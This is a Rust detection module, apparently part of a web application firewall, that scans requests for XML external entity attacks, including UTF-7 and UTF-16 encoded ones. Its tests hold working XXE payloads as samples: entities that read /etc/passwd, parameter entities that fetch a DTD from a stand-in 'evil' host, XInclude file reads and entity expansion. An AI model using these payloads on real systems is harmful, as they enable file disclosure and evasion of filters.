//! XML external entities. The DTD part of an XML document is read: `<!ENTITY` declarations
//! with `SYSTEM`/`PUBLIC` identifiers (external), `%` parameter entities, internal
//! entities declared in a request's DOCTYPE (entity expansion), external DTDs
//! (`<!DOCTYPE x SYSTEM "...">`) and XInclude. Runs per value and, request-level, on whole
//! XML bodies, including UTF-16 ones (transcoded first) that text decoders miss.

use super::gate::Triggers;
use super::textscan::{find_ci, find_ci_from, hit, push_once, snippet};
use super::{Finding, Hit, Value};
use crate::request::HttpRequest;

const CLASS: &str = "xxe";
const MAX_BYTES: usize = 65536;

/// What a value must contain for any rule of this class to match (see `gate`): add a
/// trigger here with every new rule.
pub const TRIGGERS: Triggers = Triggers { anywhere: &[&["<!", "xinclude", "xi:include", "<xi:"]], ..Triggers::NONE };

/// Per-value scan.
pub fn scan(v: &Value<'_>, out: &mut Vec<Hit>) {
    let t = v.text;
    if !t.contains("<!") && !t.contains("XInclude") && !t.contains("xi:include") && !t.contains("<xi:") {
        return;
    }
    scan_text(t.get(..super::textscan::floor_char(t, MAX_BYTES)).unwrap_or(t), out);
}

/// The checks on XML text.
pub fn scan_text(t: &str, out: &mut Vec<Hit>) {
    let since = out.len();
    let b = t.as_bytes();
    let mut from = 0;
    let mut entities = 0;
    while let Some(at) = find_ci_from(t, "<!entity", from) {
        entities += 1;
        let mut j = at + 8;
        skip_ws(b, &mut j);
        let param = b.get(j) == Some(&b'%');
        if param {
            j += 1;
            skip_ws(b, &mut j);
        }
        // Entity name.
        while b.get(j).is_some_and(|c| !c.is_ascii_whitespace() && *c != b'>') {
            j += 1;
        }
        skip_ws(b, &mut j);
        let kw = t.get(j..j + 6).unwrap_or_default().to_ascii_uppercase();
        let external = kw == "SYSTEM" || kw == "PUBLIC";
        let ev = snippet(t, at, at + 100);
        if external {
            push_once(out, since, hit("xxe.external-entity", CLASS, 5, 1, ev));
        } else if param {
            push_once(out, since, hit("xxe.parameter-entity", CLASS, 5, 1, ev));
        } else {
            push_once(out, since, hit("xxe.entity-declaration", CLASS, 3, 1, ev));
        }
        if param && external {
            push_once(out, since, hit("xxe.parameter-entity", CLASS, 5, 1, snippet(t, at, at + 100)));
        }
        from = at + 8;
        if entities > 64 {
            break;
        }
    }
    if let Some(at) = find_ci(t, "<!doctype") {
        let mut j = at + 9;
        skip_ws(b, &mut j);
        while b.get(j).is_some_and(|c| !c.is_ascii_whitespace() && *c != b'>' && *c != b'[') {
            j += 1;
        }
        skip_ws(b, &mut j);
        let kw = t.get(j..j + 6).unwrap_or_default().to_ascii_uppercase();
        if kw == "SYSTEM" || kw == "PUBLIC" {
            // `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0..." "http://www.w3.org/...">` is
            // the standard XHTML prologue; anything else loads a foreign DTD.
            let w3c = t.get(j..j + 200).or_else(|| t.get(j..)).is_some_and(|r| r.contains("-//W3C//DTD") && r.contains("http://www.w3.org/"));
            if !w3c {
                push_once(out, since, hit("xxe.external-dtd", CLASS, 5, 1, snippet(t, at, at + 100)));
            }
        }
        if entities > 0 {
            push_once(out, since, hit("xxe.doctype-entities", CLASS, 2, 1, snippet(t, at, at + 100)));
        }
    }
    if let Some(at) = find_ci(t, "http://www.w3.org/2001/xinclude").or_else(|| find_ci(t, "<xi:include")) {
        push_once(out, since, hit("xxe.xinclude", CLASS, 5, 1, snippet(t, at.saturating_sub(20), at + 100)));
    }
}

fn skip_ws(b: &[u8], j: &mut usize) {
    while b.get(*j).is_some_and(|c| c.is_ascii_whitespace()) {
        *j += 1;
    }
}

/// Request-level: XML bodies the value pipeline cannot read as UTF-8 text (UTF-16,
/// UTF-7: transcoded first), and declarations outside a DOCTYPE in XML bodies (the XML
/// parser hands the DOCTYPE to `scan` as a value, but drops stray `<!ENTITY`s).
pub fn scan_request(req: &HttpRequest, out: &mut Vec<Finding>) {
    if req.body.is_empty() {
        return;
    }
    let body = req.body.get(..MAX_BYTES).unwrap_or(&req.body);
    let ct = req.header("content-type").map(|c| c.to_ascii_lowercase()).unwrap_or_default();
    let (text, decoder) = if let Some(s) = utf16(body) {
        (s, Some("utf16"))
    } else if memchr::memmem::find(body, b"+ADw").is_some() {
        (utf7(&String::from_utf8_lossy(body)), Some("utf7"))
    } else if ct.contains("xml") && find_ci(&String::from_utf8_lossy(body), "<!doctype").is_none() {
        (String::from_utf8_lossy(body).into_owned(), None)
    } else {
        return;
    };
    if decoder.is_some() && !(ct.contains("xml") || text.trim_start().starts_with('<')) {
        return;
    }
    let mut hits = Vec::new();
    scan_text(&text, &mut hits);
    for h in hits {
        out.push(Finding {
            rule: h.rule,
            class: h.class,
            location: "body".to_string(),
            evidence: h.evidence,
            decoders: decoder.into_iter().collect(),
            score: h.score,
            paranoia: h.paranoia,
        });
    }
}

/// Decodes UTF-7 (`+ADw-` is `<`): base64 runs after `+` hold UTF-16BE code units.
fn utf7(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = String::with_capacity(s.len());
    let mut i = 0;
    while let Some(&c) = b.get(i) {
        if c != b'+' {
            out.push(c as char);
            i += 1;
            continue;
        }
        let start = i + 1;
        let mut j = start;
        while b.get(j).is_some_and(|x| x.is_ascii_alphanumeric() || *x == b'+' || *x == b'/') {
            j += 1;
        }
        if j == start {
            out.push('+');
        } else {
            let mut bits: u32 = 0;
            let mut nbits = 0;
            let mut units = Vec::new();
            for &x in b.get(start..j).unwrap_or_default() {
                // `+AD4+ADw-`: a `+` after a complete code unit (only padding bits left)
                // starts a new shifted run, as lenient decoders read it.
                if x == b'+' && nbits < 6 {
                    bits = 0;
                    nbits = 0;
                    continue;
                }
                let v = match x {
                    b'A'..=b'Z' => x - b'A',
                    b'a'..=b'z' => x - b'a' + 26,
                    b'0'..=b'9' => x - b'0' + 52,
                    b'+' => 62,
                    _ => 63,
                } as u32;
                bits = (bits << 6) | v;
                nbits += 6;
                if nbits >= 16 {
                    nbits -= 16;
                    units.push(((bits >> nbits) & 0xffff) as u16);
                }
            }
            out.extend(char::decode_utf16(units).map(|r| r.unwrap_or('\u{fffd}')));
        }
        i = if b.get(j) == Some(&b'-') { j + 1 } else { j };
    }
    out
}

/// Decodes a UTF-16 body (BOM, or `<` followed/preceded by NUL), ASCII range only.
fn utf16(b: &[u8]) -> Option<String> {
    let (le, start) = match b {
        [0xff, 0xfe, ..] => (true, 2),
        [0xfe, 0xff, ..] => (false, 2),
        [b'<', 0, ..] => (true, 0),
        [0, b'<', ..] => (false, 0),
        _ => return None,
    };
    let units: Vec<u16> = b
        .get(start..)?
        .chunks_exact(2)
        .map(|c| match c {
            [x, y] if le => u16::from_le_bytes([*x, *y]),
            [x, y] => u16::from_be_bytes([*x, *y]),
            _ => 0,
        })
        .collect();
    Some(char::decode_utf16(units).map(|r| r.unwrap_or('\u{fffd}')).collect())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::Part;

    fn score(text: &str) -> u32 {
        let mut out = Vec::new();
        scan(&Value { part: Part::BodyRaw, name: "", text }, &mut out);
        out.iter().filter(|h| h.paranoia == 1).map(|h| h.score).sum()
    }

    #[test]
    fn attacks() {
        for a in [
            "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
            "<!DOCTYPE foo [<!ENTITY % xxe SYSTEM \"http://evil/x.dtd\"> %xxe;]>",
            "<!DOCTYPE xxe [<!ENTITY foo \"aaaaaa\">]><root>&foo;</root>",
            "<!DOCTYPE foo SYSTEM \"http://evil/x.dtd\"><foo/>",
            "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
            "<!doctype lolz [<!entity lol \"lol\"><!entity lol2 \"&lol;&lol;\">]><lolz>&lol2;</lolz>",
            "<!ENTITY % a PUBLIC \"x\" \"http://evil/\">",
        ] {
            assert!(score(a) >= 5, "{a}");
        }
    }

    #[test]
    fn benign() {
        for b in [
            "<?xml version=\"1.0\"?><order><id>1</id></order>",
            "<!DOCTYPE html><html><body>hi</body></html>",
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>",
            "<!-- a comment --><a/>",
            "Use &amp; for ampersands",
        ] {
            assert!(score(b) < 5, "{b}");
        }
    }

    #[test]
    fn utf7_and_stray_entities() {
        let body = b"<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADwAIQ-DOCTYPE foo+AFs +ADwAIQ-ELEMENT foo ANY +AD4+ADwAIQ-ENTITY xxe SYSTEM +ACI-http://x/+ACI +AD4AXQA+".to_vec();
        let req = HttpRequest { method: "POST".into(), uri: "/".into(), headers: vec![("content-type".into(), b"application/xml".to_vec())], body, ..Default::default() };
        let mut out = Vec::new();
        scan_request(&req, &mut out);
        assert!(out.iter().any(|f| f.rule == "xxe.external-entity" && f.decoders == ["utf7"]), "{out:?}");
        let body = b"<?xml version=\"1.0\"?><!ENTITY % d SYSTEM \"file:///x.dtd\"><a/>".to_vec();
        let req = HttpRequest { method: "POST".into(), uri: "/".into(), headers: vec![("content-type".into(), b"text/xml".to_vec())], body, ..Default::default() };
        let mut out = Vec::new();
        scan_request(&req, &mut out);
        assert!(out.iter().any(|f| f.rule == "xxe.external-entity"), "{out:?}");
        // A DOCTYPE is the value scan's (no double count).
        let body = b"<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>".to_vec();
        let req = HttpRequest { method: "POST".into(), uri: "/".into(), headers: vec![("content-type".into(), b"text/xml".to_vec())], body, ..Default::default() };
        let mut out = Vec::new();
        scan_request(&req, &mut out);
        assert!(out.is_empty());
    }

    #[test]
    fn utf16_body() {
        let xml = "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>";
        let mut body = vec![0xff, 0xfe];
        for u in xml.encode_utf16() {
            body.extend_from_slice(&u.to_le_bytes());
        }
        let req = HttpRequest { method: "POST".into(), uri: "/".into(), headers: vec![("content-type".into(), b"text/plain".to_vec())], body, ..Default::default() };
        let mut out = Vec::new();
        scan_request(&req, &mut out);
        assert!(out.iter().any(|f| f.rule == "xxe.external-entity" && f.decoders == ["utf16"]), "{out:?}");
    }
}
